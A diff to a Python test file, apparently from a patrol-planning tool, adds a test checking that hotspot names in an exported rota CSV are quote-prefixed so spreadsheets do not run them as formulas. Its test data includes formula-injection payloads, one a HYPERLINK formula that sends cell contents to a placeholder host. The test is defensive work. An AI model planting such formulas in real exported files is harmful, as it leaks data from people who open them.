@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import datetime as dt
+from pathlib import Path
 from zoneinfo import ZoneInfo
 
 import icalendar
@@ -213,3 +214,17 @@ def test_ics_description_minutes_across_spring_forward() -> None:
     )
     (ev,) = icalendar.Calendar.from_ical(plan_to_ical(visits)).walk("VEVENT")
     assert "Stay 20 minutes" in str(ev["DESCRIPTION"])
+
+
+def test_plan_csv_cells_cannot_start_a_spreadsheet_formula(tmp_path: Path) -> None:
+    # hot spot names come from whoever drew the GeoJSON; the rota CSV is opened in Excel
+    from patrolwise.plan.export_csv import write_plan_csv
+
+    hs = line_of_hotspots(4)
+    hs["name"] = ['=HYPERLINK("http://x.example/?"&A1,"map")', "+1+2", "@SUM(A1:A9)", "-3+4"]
+    res = make_plan(hs, PlanRequest("police", dt.date(2024, 7, 1), dt.date(2024, 7, 1)))
+    p = write_plan_csv(res.visits, tmp_path / "plan.csv")
+    names = pd.read_csv(p, dtype=str)["name"]
+    assert len(names) == 4
+    assert all(n.startswith("'") for n in names), list(names)
+    assert set(names.str[1:]) == set(hs["name"])
